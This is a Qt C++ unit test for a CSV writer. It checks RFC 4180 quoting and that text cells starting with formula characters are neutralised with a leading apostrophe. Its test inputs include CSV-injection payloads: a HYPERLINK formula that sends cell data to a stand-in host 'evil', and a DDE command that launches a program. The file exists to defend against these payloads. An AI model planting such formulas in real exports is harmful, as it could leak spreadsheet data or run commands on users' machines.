// The one CSV writer: RFC 4180 quoting, and text cells a spreadsheet would run as a formula
// neutralised with a leading ' (docs/SECURITY.md, "Exports are inert"); numbers left alone.

#include "core/csvwriter.h"
#include "import/csvreader.h"

#include <QBuffer>
#include <QTest>

using namespace Qt::StringLiterals;
using PartnerDesk::CsvCell;
using PartnerDesk::CsvReader;
using PartnerDesk::CsvWriter;

class TestCsvWriter final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void textField_data();
    void textField();
    void numberField_data();
    void numberField();
    void notANumberIsWrittenAsText_data();
    void notANumberIsWrittenAsText();
    void lineMixesTextAndNumbers();
    void readsBackThroughTheImporter();
};

void TestCsvWriter::textField_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("field");

    // Every character that starts a formula (OWASP, CSV injection).
    QTest::addRow("equals") << u"=HYPERLINK(\"http://evil/?\"&A1,\"Click\")"_s
                            << u"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Click\"\")\""_s;
    QTest::addRow("equals, nothing to quote") << u"=1+1"_s << u"'=1+1"_s;
    QTest::addRow("plus") << u"+41 79 000"_s << u"'+41 79 000"_s;
    QTest::addRow("minus") << u"-2+3"_s << u"'-2+3"_s;
    QTest::addRow("minus alone") << u"-"_s << u"'-"_s;
    QTest::addRow("at") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
    QTest::addRow("tab") << u"\t=1+1"_s << u"'\t=1+1"_s;
    QTest::addRow("carriage return") << u"\r=1+1"_s << u"\"'\r=1+1\""_s;
    QTest::addRow("text that looks like a negative amount") << u"-12.50"_s << u"'-12.50"_s;
    QTest::addRow("DDE") << u"=cmd|' /C calc'!A0"_s << u"'=cmd|' /C calc'!A0"_s;

    // The same characters later in the text are harmless: left as they are.
    QTest::addRow("equals inside") << u"a=b"_s << u"a=b"_s;
    QTest::addRow("plus inside") << u"Anna+Ben"_s << u"Anna+Ben"_s;
    QTest::addRow("minus inside") << u"Koongo-Partner"_s << u"Koongo-Partner"_s;
    QTest::addRow("at inside") << u"anna@example.com"_s << u"anna@example.com"_s;
    QTest::addRow("tab inside") << u"a\tb"_s << u"a\tb"_s;
    QTest::addRow("carriage return inside") << u"a\rb"_s << u"\"a\rb\""_s;
    QTest::addRow("space then equals") << u" =1"_s << u" =1"_s;
    QTest::addRow("quote first") << u"'=1"_s << u"'=1"_s;

    // RFC 4180: quoted only for a comma, a quote or a line break; quotes doubled.
    QTest::addRow("plain") << u"Koongo Partner"_s << u"Koongo Partner"_s;
    QTest::addRow("empty") << QString() << QString();
    QTest::addRow("comma") << u"Doe, Jane"_s << u"\"Doe, Jane\""_s;
    QTest::addRow("quote") << u"the \"best\""_s << u"\"the \"\"best\"\"\""_s;
    QTest::addRow("line feed") << u"two\nlines"_s << u"\"two\nlines\""_s;
    QTest::addRow("CRLF") << u"two\r\nlines"_s << u"\"two\r\nlines\""_s;
    QTest::addRow("formula with a comma") << u"=SUM(1,2)"_s << u"\"'=SUM(1,2)\""_s;
    QTest::addRow("formula with a line break") << u"-1\n=2"_s << u"\"'-1\n=2\""_s;
    QTest::addRow("non-ASCII") << u"Jiří Novák"_s << u"Jiří Novák"_s;
}

void TestCsvWriter::textField()
{
    QFETCH(QString, value);
    QFETCH(QString, field);

    QCOMPARE(CsvWriter::text(value), field);
    QCOMPARE(CsvWriter::field(CsvCell(value)), field);
    QCOMPARE(CsvWriter::line({value}), field + u'\n');
}

void TestCsvWriter::numberField_data()
{
    QTest::addColumn<QString>("value");

    QTest::addRow("reversal") << u"-12.50"_s;
    QTest::addRow("negative whole") << u"-3"_s;
    QTest::addRow("positive") << u"12.50"_s;
    QTest::addRow("zero") << u"0.00"_s;
    QTest::addRow("count") << u"1000000"_s;
    QTest::addRow("rate") << u"12.5"_s;
    QTest::addRow("three minor digits") << u"-0.125"_s;
    QTest::addRow("none") << QString();
}

void TestCsvWriter::numberField()
{
    QFETCH(QString, value);

    const CsvCell cell = CsvCell::number(value);
    QVERIFY(cell.isNumber());
    QCOMPARE(CsvWriter::field(cell), value);
    QCOMPARE(CsvWriter::line({cell}), value + u'\n');
}

void TestCsvWriter::notANumberIsWrittenAsText_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("field");

    QTest::addRow("formula") << u"=1+1"_s << u"'=1+1"_s;
    QTest::addRow("minus formula") << u"-1+1"_s << u"'-1+1"_s;
    QTest::addRow("plus sign") << u"+12.50"_s << u"'+12.50"_s;
    QTest::addRow("decimal comma") << u"-12,50"_s << u"\"'-12,50\""_s;
    QTest::addRow("trailing dot") << u"-12."_s << u"'-12."_s;
    QTest::addRow("exponent") << u"-1e5"_s << u"'-1e5"_s;
    QTest::addRow("line break after a number") << u"-1\n=2"_s << u"\"'-1\n=2\""_s;
    QTest::addRow("tab") << u"\t1"_s << u"'\t1"_s;
}

void TestCsvWriter::notANumberIsWrittenAsText()
{
    QFETCH(QString, value);
    QFETCH(QString, field);

    const CsvCell cell = CsvCell::number(value);
    QVERIFY(!cell.isNumber());
    QCOMPARE(CsvWriter::field(cell), field);
}

void TestCsvWriter::lineMixesTextAndNumbers()
{
    QCOMPARE(CsvWriter::line({CsvCell::number(7), u"=EVIL()"_s, u"-ANNA"_s, u"x@example.com"_s, u"EUR"_s,
                              CsvCell::number(u"-12.50"_s), CsvCell::number(-3), CsvCell::number(QString())}),
             u"7,'=EVIL(),'-ANNA,x@example.com,EUR,-12.50,-3,\n"_s);
    QCOMPARE(CsvWriter::line({}), u"\n"_s);
    QCOMPARE(CsvWriter::line({QString(), QString()}), u",\n"_s);
}

// What the importer's reader makes of a written line: the same fields, the neutralised ones with
// their leading ' (nothing the app writes is read back, but the quoting must stay RFC 4180).
void TestCsvWriter::readsBackThroughTheImporter()
{
    const QList<CsvCell> cells = {u"=HYPERLINK(\"http://evil/?\"&A1,\"Click\")"_s,
                                  u"Doe, \"Jane\""_s,
                                  u"\r=1"_s,
                                  u"two\nlines"_s,
                                  CsvCell::number(u"-12.50"_s),
                                  u"@x"_s};
    QByteArray bytes = (CsvWriter::line(cells) + CsvWriter::line({u"end"_s})).toUtf8();
    QBuffer buffer(&bytes);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    CsvReader reader(&buffer);
    QStringList fields;
    QCOMPARE(reader.next(fields), CsvReader::Outcome::Record);
    QCOMPARE(fields, (QStringList{u"'=HYPERLINK(\"http://evil/?\"&A1,\"Click\")"_s, u"Doe, \"Jane\""_s, u"'\r=1"_s,
                                  u"two\nlines"_s, u"-12.50"_s, u"'@x"_s}));
    QCOMPARE(reader.next(fields), CsvReader::Outcome::Record);
    QCOMPARE(fields, QStringList{u"end"_s});
    QCOMPARE(reader.next(fields), CsvReader::Outcome::End);
}

QTEST_APPLESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
